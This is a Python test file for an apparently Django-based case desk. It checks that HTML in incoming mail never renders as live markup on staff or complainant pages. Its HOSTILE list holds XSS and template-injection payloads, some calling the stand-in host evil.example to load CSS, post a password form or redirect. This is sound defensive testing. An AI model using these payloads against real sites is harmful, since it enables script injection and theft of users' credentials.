"""Class 1: markup in a mail that runs where it is read. FreeScout CVE-2026-32754,
OTRS CVE-2021-21441 (already in the list), RTIR CVE-2026-105455 (the subject)."""

import pytest
from django.utils import timezone

from ombud.cases.models import Case
from ombud.mail.intake import take_in
from ombud.people.vocabulary import Role
from tests import given
from tests.web.crawling import crawled, faults

HOSTILE = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><canary-svg>",
    "<canary-math><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)><canary-x>'>",
    "<sc<script>ript>alert(1)</sc</script>ript><canary-nested>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><canary-frame>",
    "<a href='jAvAsCrIpT:alert(1)'>click</a><canary-link>",
    "<style>@import 'http://evil.example/x.css'</style><canary-style>",
    "<form action=//evil.example><input name=password></form><canary-form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "</textarea></title></style></script><canary-out>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<canary-entity>",
    "{{7*7}}{% include 'x' %}<canary-template>",
]


@pytest.mark.django_db
def test_cve_2026_32754_no_mail_becomes_markup_on_any_page(client):
    given.organisation()
    lena = given.person("lena", Role.LEAD)
    for number, words in enumerate(HOSTILE):
        raw = (
            f"From: {words} <ann{number}@example.org>\nSubject: {words} bill\n"
            f"Message-ID: <{number}@a>\nContent-Type: text/html; charset=utf-8\n\n"
            f"<p>My bill number {number}</p>{words}<p>{words}</p>\n"
        )
        take_in(raw.encode(), at=timezone.now())
    client.force_login(lena)
    starts = [f"/desk/cases/{case.reference}/" for case in Case.objects.all()]
    pages = {
        place: text
        for start in ["/desk/", "/desk/?q=bill", "/desk/outbox/", *starts]
        for place, text in {start: client.get(start).content.decode()}.items()
    }
    assert "My bill number" in "".join(pages.values())
    assert not faults(pages)
    assert "49" not in pages[starts[-1]].split("My bill number")[-1][:40]


@pytest.mark.django_db
def test_ghsa_jpq8_what_the_complainant_sees_of_it_is_text_too(client):
    given.organisation()
    received = given.received(" ".join(HOSTILE))
    pair = {"reference": received.case.reference, "receipt": received.receipt}
    client.post("/track/", pair)
    pages = crawled(client, "/case/")
    assert "&lt;script&gt;" in pages["/case/"]
    assert not faults(pages)
